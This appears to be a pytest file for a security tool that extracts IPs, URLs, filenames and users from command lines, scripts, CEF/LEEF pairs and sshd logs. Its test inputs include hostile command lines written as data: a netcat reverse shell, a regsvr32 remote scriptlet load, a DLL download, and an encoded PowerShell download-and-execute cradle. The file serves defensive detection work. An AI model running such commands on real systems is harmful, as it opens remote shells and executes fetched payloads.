"""Free text, each grammar by its traps."""

from __future__ import annotations

import pytest

from propolis.observables.texts import command, pairs, syslog


def _seen(found: list) -> list[tuple[str, str]]:
    return [(seen.data_type, seen.data) for seen in found]


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("nc.exe 203.0.113.24 3001 -e cmd.exe", [("ip", "203.0.113.24")]),
        ("app.exe -Version 5.1.2.3 --build 10.0.17763.1", []),
        ("netsh interface ip set address x static 192.0.2.9 255.255.255.0", [("ip", "192.0.2.9")]),
        ("route add 10.0.0.0/8", []),
        ("agent --server 203.0.113.24", [("ip", "203.0.113.24")]),
        ("ping -n 1 127.0.0.1", []),
        ("curl -o out.dll https://example.net/a", [("url", "https://example.net/a"), ("filename", "out.dll")]),
        (
            "net use y: https://d.example.net/x /user:bob@example.org secret",
            [("url", "https://d.example.net/x"), ("mail", "bob@example.org")],
        ),
        ("scp /tmp/a root@203.0.113.24:/tmp/a", [("filename", "/tmp/a"), ("ip", "203.0.113.24")]),
        ('cmd.exe /c "C:\\Users\\alice\\my tools\\a.bat" x', [("filename", "C:\\Users\\alice\\my tools\\a.bat")]),
        ("psexec \\\\203.0.113.24\\admin$ -c x", [("ip", "203.0.113.24")]),
        ("regsvr32 /s /n /u /i:http://example.net/a.sct scrobj.dll", [("url", "http://example.net/a.sct")]),
        ("start https://go.microsoft.com/fwlink/?LinkId=1", []),
        ("x > \\\\.\\pipe\\y", []),
    ],
)
def test_a_command_line_names(line: str, expected: list[tuple[str, str]]) -> None:
    assert _seen(command.command_line(line)) == expected


def test_an_encoded_command_is_read_as_what_it_runs() -> None:
    from binascii import b2a_base64

    code = b2a_base64("IEX (iwr 'http://203.0.113.24/p.ps1')".encode("utf-16-le")).decode().strip()
    assert ("url", "http://203.0.113.24/p.ps1") in _seen(command.command_line(f"powershell -nop -enc {code}"))
    assert _seen(command.command_line("powershell -enc notbase64notbase64notbase64!")) == []


def test_what_a_script_cites_in_a_comment_is_not_what_it_does() -> None:
    text = "# from https://example.com/blog  iwr https://example.net/a"
    assert _seen(command.script(text)) == [("url", "https://example.net/a")]


def test_named_values_of_a_line() -> None:
    assert pairs.pairs('src=192.0.2.1 msg="a b=c" user=bob') == {"src": "192.0.2.1", "msg": "a b=c", "user": "bob"}
    assert pairs.pairs("one=1 two=2") == {}
    assert pairs.pairs("CEF:0|V|P|1|2|N|3|src=192.0.2.1 msg=a b\\=c dst=192.0.2.2") == {
        "src": "192.0.2.1",
        "msg": "a b=c",
        "dst": "192.0.2.2",
    }
    assert pairs.pairs("LEEF:1.0|V|P|1|2|src=192.0.2.1\tusrName=Bob Baker") == {
        "src": "192.0.2.1",
        "usrName": "Bob Baker",
    }


@pytest.mark.parametrize(
    "message",
    [
        "sshd[1]: Failed password for invalid user bob from 203.0.113.24 port 5 ssh2",
        "sshd[1]: Accepted publickey for bob from 203.0.113.24 port 5 ssh2: RSA SHA256:x",
        "sshd[1]: User bob from 203.0.113.24 not allowed because not listed in AllowUsers",
        "sshd[1]: Connection reset by authenticating user bob 203.0.113.24 port 51772 [preauth]",
        "sshd[1]: Disconnected from invalid user bob 203.0.113.24 port 43042",
        "sshd[1]: error: maximum authentication attempts exceeded for bob from 203.0.113.24 port 1 ssh2 [preauth]",
    ],
)
def test_who_came_from_where_by_ssh(message: str) -> None:
    assert _seen(list(syslog.sshd(message))) == [("ip", "203.0.113.24"), ("other", "bob")]


@pytest.mark.parametrize(
    "message", ["sshd[1]: Did not receive identification string from x", "sshd[1]: Connection closed", ""]
)
def test_a_line_of_sshd_without_a_log_in_gives_nothing(message: str) -> None:
    assert list(syslog.sshd(message)) == []
